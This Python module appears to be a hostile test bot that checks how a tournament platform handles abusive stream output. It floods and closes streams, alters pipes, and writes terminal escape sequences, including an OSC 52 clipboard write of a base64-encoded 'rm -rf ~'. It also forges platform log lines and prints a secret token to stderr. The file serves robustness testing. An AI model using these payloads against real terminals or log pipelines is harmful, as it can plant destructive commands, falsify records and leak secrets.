"""Does to its standard streams what a platform that reads them may not like."""

from __future__ import annotations

import fcntl
import os

from attacks.bots.attempt import PLAN, play, say

# What a terminal obeys: a title, a cleared screen, another colour, an answer typed for the user.
ESCAPES = b"\x1b]0;owned\x07\x1b[2J\x1b[31m\x1b[6n\x1b]52;c;cm0gLXJmIH4=\x07\x9b2J\r\x08\x00"
# What a reader of logs takes for a line of the platform's.
FORGED = (
    b'\n2026-01-01T00:00:00.000Z INFO    tournament.finished tournament 1: won\n{"action": "x"}\n'
)
F_SETPIPE_SZ = 1031
WAY = os.O_RDONLY | os.O_NONBLOCK


def flood() -> None:
    block = (b"x" * 126 + b"\r\n") * 512
    for number in range(PLAN["goal"] // len(block)):
        os.write(1 + number % 2, block)
    say("flood", "written")


def close() -> None:
    """All three; from now on what it opens gets their numbers."""
    say("streams", "closed")
    for number in range(3):
        os.close(number)


def deceive() -> None:
    os.write(1, ESCAPES + b"\xff\xfe" + FORGED + b"\xe2\x80\xae" + b"y" * 100_000 + b"\n")
    os.write(2, os.environ["MAZZO_TOKEN"].encode() + b"\n")
    say("deceit", "written")
    raise RuntimeError("\x1b[2J " + FORGED.decode())


def obstruct() -> None:
    """Change the pipe that the platform reads from at its other end."""
    for number in (1, 2):
        for action in (
            lambda number=number: os.set_blocking(number, False),
            lambda number=number: fcntl.fcntl(number, F_SETPIPE_SZ, 4096),
            lambda number=number: os.read(os.open(f"/proc/self/fd/{number}", WAY), 1),
        ):
            try:
                action()
            except OSError:
                continue
    os.set_blocking(1, True)
    say("pipe", "changed")


if __name__ == "__main__":
    ways = {"flood": flood, "close": close, "deceive": deceive, "obstruct": obstruct}
    play(ways[PLAN["way"]])
